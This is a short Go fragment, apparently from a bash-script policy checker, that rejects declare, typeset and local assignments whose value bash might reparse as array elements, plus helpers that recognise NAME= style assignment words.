func (w *walker) followsArrayText(name string, o declOpts, k string) bool {
	k, _ = varOf(k)
	switch name {
	case "declare", "typeset":
		if _, at := w.scope.peekArray(k); !o.array && at == nil {
			return true
		}
	case "local":
		if !o.array {
			return true
		}
	default:
		return true
	}
	w.fail("%s %s=…: bash may read a value that starts with ( as the array's elements, which the policy does not follow: write %s=(...)", name, k, k)
	return false
}

// assignShaped reports whether a, in text bash parses again, starts with
// NAME= (NAME+=, NAME[i]=), whatever follows: a=$v.
func assignShaped(a *syntax.Word) bool {
	lit, ok := a.Parts[0].(*syntax.Lit)
	if !ok {
		return false
	}
	k, ok := varOf(lit.Value)
	return ok && isVarName(k)
}

// varOf returns the variable that a word NAME=value (NAME+=value,
// NAME[i]=value, or NAME alone) sets, and whether it holds an =.
func varOf(word string) (name string, assigns bool) {
	name, _, assigns = strings.Cut(word, "=")
	name, _, _ = strings.Cut(strings.TrimSuffix(name, "+"), "[")
	return name, assigns
}
